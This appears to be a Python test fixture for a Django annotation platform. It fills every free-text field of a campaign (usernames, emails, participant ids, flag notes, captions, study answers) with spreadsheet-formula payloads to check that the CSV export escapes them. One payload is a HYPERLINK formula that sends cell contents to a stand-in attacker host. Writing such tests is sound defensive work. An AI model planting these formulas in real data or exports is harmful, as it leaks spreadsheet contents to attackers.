"""A campaign whose every free-text field holds formula-like text, for the walk of the CSV
endpoints (tests/annotation/core/test_csv_endpoints.py): what participants type (study
answers, flag notes), what platforms put in the link (participant ids), what admins and
researchers name (links, questions, usernames, e-mail addresses, models, gold notes) and
what a dataset brings (item keys, caption text). Values the input checks refuse are
planted straight into the rows: the writer must hold even where a check was missed."""

from __future__ import annotations

from dataclasses import dataclass

from django.contrib.auth import get_user_model
from django.utils import timezone

from annotation.models import (
    Caption,
    Flag,
    FlagReason,
    GoldPair,
    GoldPurpose,
    GoldRating,
    Image,
    Participant,
    Rating,
    TaskKind,
)
from annotation.people.crowd.links import campaign_link_create
from annotation.people.crowd.questions import answers_save, study_question_add
from annotation.serving.gold_ids import ids_reserve
from tests.support.crowd_support import gold_upload
from tests.support.export_data import rated_factory_dataset

# What a spreadsheet reads as the start of a formula (OWASP: = + - @ tab CR; defusedcsv's | %).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "|", "%")
# Values an input check lets through although they begin like a formula.
ALLOWED_USERNAME = "-2+3"  # Django's username validator allows - + @ . _
ALLOWED_EMAIL = "=1+2@example.org"  # = and + are allowed in an address's local part
ALLOWED_EXTERNAL_ID = "-7-pid"  # the join's id pattern allows - and _


def hostile(field: str) -> str:
    """The issue's formula, naming the field it was planted in."""
    return f'=HYPERLINK("http://attacker.example/?leak="&A1,"{field}")'


# Without quotes or commas: a cell the export's joined fast path would write as it is.
def hostile_plain(field: str) -> str:
    return f"@SUM(1+1)*{field}"


@dataclass
class HostileCampaign:
    dataset: object
    link: object
    raters: list


def hostile_campaign(tmp_path) -> HostileCampaign:
    """A rated dataset (every task kind) with gold ratings, a campaign link with study
    questions answered by a participant, and a flag, every free-text field hostile."""
    rated = rated_factory_dataset(n_images=6)
    dataset, split = rated.dataset, rated.split
    _hostile_items(rated)
    gold_upload(split, TaskKind.SIS, 2, tmp_path)
    gold = GoldPair.objects.filter(dataset=dataset).order_by("pk").first()
    Image.objects.filter(pk=gold.image_a_id).update(key=hostile("gold_key"))
    GoldPair.objects.filter(dataset=dataset).update(explanation=hostile("gold_explanation"))
    GoldRating.objects.create(
        id=ids_reserve(Rating, 1)[0],
        gold_pair=gold,
        rater=rated.raters[0],
        dataset=dataset,
        purpose=GoldPurpose.QUEUE,
        score=2.5,
        gold_score=gold.gold_score,
        time_on_item_ms=4000,
        idempotency_key="hostile-gold",
        created_at=timezone.now(),
    )
    Flag.objects.create(
        pair=rated.complete[0], rater=rated.raters[1], reason=FlagReason.OTHER, note=hostile("flag_note")
    )
    users = get_user_model()
    users.objects.filter(pk=rated.raters[1].pk).update(username=ALLOWED_USERNAME)
    users.objects.filter(pk=rated.raters[2].pk).update(username=hostile("username"))
    link = campaign_link_create(
        dataset=dataset, name=hostile("link_name"), kinds=["SIS"], quota=4, completion_code="FULL-1"
    )
    _answered(link, rated.raters[0], hostile("external_id"))
    _answered(link, rated.raters[3], ALLOWED_EXTERNAL_ID)
    return HostileCampaign(dataset=dataset, link=link, raters=rated.raters)


def _hostile_items(rated) -> None:
    """Keys of items in complete pairs of each kind (one of them quoted, one plain) and a
    caption's text."""
    by_kind = {}
    for pair in rated.complete:
        by_kind.setdefault(pair.kind, pair)
    Caption.objects.filter(pk=by_kind[TaskKind.STS].caption_a_id).update(
        key=hostile("caption_key"), text=hostile("caption_text")
    )
    Image.objects.filter(pk=by_kind[TaskKind.SIS].image_a_id).update(key=hostile_plain("image_key"))
    Caption.objects.filter(pk=by_kind[TaskKind.SITS].caption_a_id).update(key=hostile_plain("sits_caption_key"))


def _answered(link, user, external_id: str) -> Participant:
    """A participant of ``link`` who answered its questions with formulas."""
    questions = list(link.questions.filter(phase="pre").order_by("position"))
    if not questions:
        questions = [
            study_question_add(link, phase="pre", prompt=hostile("question"), required=True),
            study_question_add(link, phase="pre", prompt="Anything else?"),
        ]
    participant = Participant.objects.create(link=link, user=user, external_id=external_id, started_at=timezone.now())
    answers = {str(questions[0].pk): hostile("answer"), str(questions[1].pk): "\t=1+2 tab_answer"}
    answers_save(participant, phase="pre", answers=answers)
    return participant
